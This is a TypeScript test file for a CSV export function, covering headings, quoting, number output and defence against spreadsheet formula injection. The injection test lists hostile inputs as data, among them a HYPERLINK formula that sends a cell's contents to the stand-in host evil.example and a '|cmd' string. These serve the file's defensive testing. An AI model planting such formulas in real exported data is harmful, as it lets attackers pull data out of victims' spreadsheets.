import assert from 'node:assert/strict';
import { toCsv } from '../../src/domain/csv.ts';

const cells = (...row: (string | number | null)[]): string => toCsv({ columns: [], rows: [row] }).slice(2, -2);

describe('a table as CSV', () => {
  it('has a line of headings, commas and the line ends of RFC 4180', () => {
    const rows = [
      [1.5, 'x'],
      [null, 'y'],
    ];

    assert.equal(toCsv({ columns: ['a', 'b'], rows }), 'a,b\r\n1.5,x\r\n,y\r\n');
  });

  it('keeps separators, quotes and line breaks inside their cell', () => {
    assert.equal(cells('a,b', 'say "hi"', 'one\ntwo', 'x;y'), '"a,b","say ""hi""","one\ntwo","x;y"');
  });

  it('lets no text become a formula of a spreadsheet', () => {
    const attacks = [
      ...['=1+1', '+44 20', '-2+3', '@SUM(A1)', '  =1', '\t=1', '\r=1', '＝1+1', '|cmd', '%0A', '\u00A0=1', '\uFEFF=1'],
      ...['=HYPERLINK("https://evil.example?x="&A1,"x")', '\u202E=1'],
    ];

    for (const attack of attacks) assert.match(cells(attack), /^"?'/, attack);
  });

  it('leaves numbers numbers, also below zero', () => {
    assert.equal(cells(-3, 0.25, Number.NaN, Number.POSITIVE_INFINITY), '-3,0.25,,');
  });
});
